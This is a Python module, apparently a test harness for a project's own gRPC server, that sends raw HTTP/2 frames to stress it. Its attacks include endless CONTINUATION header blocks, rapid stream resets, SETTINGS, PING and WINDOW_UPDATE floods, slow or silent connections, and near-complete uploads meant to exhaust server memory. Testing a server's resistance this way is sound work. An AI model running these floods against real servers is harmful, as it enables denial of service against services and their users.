"""Attacks on the gRPC door by a client without a key, below gRPC: frames and header blocks that no library sends."""
import itertools
import struct

from attack import STRANGER, attack
from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, call_headers, frame,
                  message)

GENERATE, MODELS = "/baton.v1.Baton/Generate", "/baton.v1.Baton/ListModels"
BATCH = 64  # frames at once: Python's own time must not hold an attack back
LARGE = 4 << 20  # bytes of a message
CANCEL = b"\0\0\0\x08"


def greeted(attacker):
    line = attacker.connect(attacker.grpc, STRANGER)
    line.send(PREFACE + frame(SETTINGS, 0, 0, b""))
    return line


def flood(line, data):
    """Without end."""
    while True:
        line.send(data)
        line.look()


def streams():
    return itertools.count(1, 2)


@attack("gRPC", "header_block", quick=True)
def endless_continuation(attacker):
    line = greeted(attacker)
    line.send(frame(HEADERS, 0, 1, call_headers(GENERATE)))
    flood(line, frame(CONTINUATION, 0, 1, b"\0\1a\x7f\xa1\x3f" + b"b" * 8192))


@attack("gRPC", "header_block")
def header_block_of_16_mib(attacker):
    line = greeted(attacker)
    line.send(frame(HEADERS, END_HEADERS, 1, b"", length=0xFFFFFF))
    flood(line, b"x" * 65536)


@attack("gRPC", "empty_frames")
def endless_empty_continuation(attacker):
    line = greeted(attacker)
    line.send(frame(HEADERS, 0, 1, call_headers(GENERATE)))
    flood(line, frame(CONTINUATION, 0, 1, b"") * BATCH)


@attack("gRPC", "resets", quick=True)
def rapid_reset(attacker):
    line, headers = greeted(attacker), call_headers(GENERATE)
    for first in itertools.count(1, 2 * BATCH):
        line.send(b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL) for stream in range(first, first + 2 * BATCH, 2)))
        line.look()


@attack("gRPC", "resets")
def rapid_reset_with_messages(attacker):
    """Each call with its message, so that the router has begun to work on it."""
    line, headers = greeted(attacker), call_headers(MODELS)
    for stream in streams():
        line.send(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, message(b"")) + frame(RST_STREAM, 0, stream, CANCEL))
        if stream % 64 == 1:
            line.look()


@attack("gRPC", "settings", quick=True)
def settings_flood(attacker):
    flood(greeted(attacker), frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * BATCH)


@attack("gRPC")
def ping_flood(attacker):
    """Core ends these by itself: no data was sent between two of them."""
    flood(greeted(attacker), frame(PING, 0, 0, b"12345678") * BATCH)


@attack("gRPC", "pings")
def unasked_ping_answers(attacker):
    flood(greeted(attacker), frame(PING, ACK, 0, b"12345678") * BATCH)


@attack("gRPC", "empty_frames")
def empty_data(attacker):
    line = greeted(attacker)
    line.send(frame(HEADERS, END_HEADERS, 1, call_headers(GENERATE)))
    flood(line, frame(DATA, 0, 1, b"") * BATCH)


@attack("gRPC", "small_frames")
def data_by_the_byte(attacker):
    line = greeted(attacker)
    line.send(frame(HEADERS, END_HEADERS, 1, call_headers(GENERATE)) + frame(DATA, 0, 1, message(b"", length=1 << 20)))
    flood(line, frame(DATA, 0, 1, b"x") * BATCH)


@attack("gRPC", "small_frames")
def window_update_flood(attacker):
    flood(greeted(attacker), frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * BATCH)


@attack("gRPC", "handshake_timeout", threads=32)
def silent_connections(attacker):
    attacker.connect(attacker.grpc, STRANGER).wait()


@attack("gRPC", "header_timeout", threads=16)
def slow_header_block(attacker):
    line = greeted(attacker)
    line.send(frame(HEADERS, 0, 1, call_headers(GENERATE)))
    line.wait()


class Uploads:
    """Calls of one connection, whose messages come as far as the server's windows let them, except for their last byte."""

    def __init__(self, line):
        self.line, self.heard, self.first, self.window, self.left = line, b"", 65535, 65535, {}

    def begin(self, stream):
        self.line.send(frame(HEADERS, END_HEADERS, stream, call_headers(GENERATE)) + frame(DATA, 0, stream, message(b"", length=LARGE)))
        self.left[stream] = [LARGE - 1, self.first - 5]
        self.window -= 5

    def go_on(self):
        """Sends what the windows allow, and reads until they allow more."""
        for stream, state in self.left.items():
            while (size := min(state[0], state[1], self.window, 16384)) > 0:
                self.line.send(frame(DATA, 0, stream, b"x" * size))
                state[0], state[1], self.window = state[0] - size, state[1] - size, self.window - size
        self.heard += self.line.some()
        while len(self.heard) >= 9 and len(self.heard) >= 9 + (length := int.from_bytes(self.heard[:3], "big")):
            kind, flags, stream = self.heard[3], self.heard[4], int.from_bytes(self.heard[5:9], "big")
            self.take(kind, flags, stream, self.heard[9:9 + length])
            self.heard = self.heard[9 + length:]

    def take(self, kind, flags, stream, payload):
        if kind == WINDOW_UPDATE and not stream:
            self.window += int.from_bytes(payload, "big")
        elif kind == WINDOW_UPDATE and stream in self.left:
            self.left[stream][1] += int.from_bytes(payload, "big")
        elif kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == 4:  # INITIAL_WINDOW_SIZE
                    for state in self.left.values():
                        state[1] += value - self.first
                    self.first = value
            self.line.send(frame(SETTINGS, ACK, 0, b""))
        elif kind == PING and not flags & ACK:
            self.line.send(frame(PING, ACK, 0, payload))
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self.left.pop(stream, None)


@attack("gRPC", ends=False, large=True)
def messages_that_would_take_all_memory(attacker):
    """Of each connection 32 calls, with messages that are whole except for their last byte: six times receive-memory together."""
    uploads = Uploads(greeted(attacker))
    for stream in streams():
        while len(uploads.left) >= 32:
            uploads.go_on()
        uploads.begin(stream)


@attack("gRPC", ends=False)
def calls_without_reading(attacker):
    """Sound calls, as many as go, with answers that aren't read."""
    line, headers = greeted(attacker), call_headers(MODELS)
    for stream in streams():
        line.send(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, message(b"")))
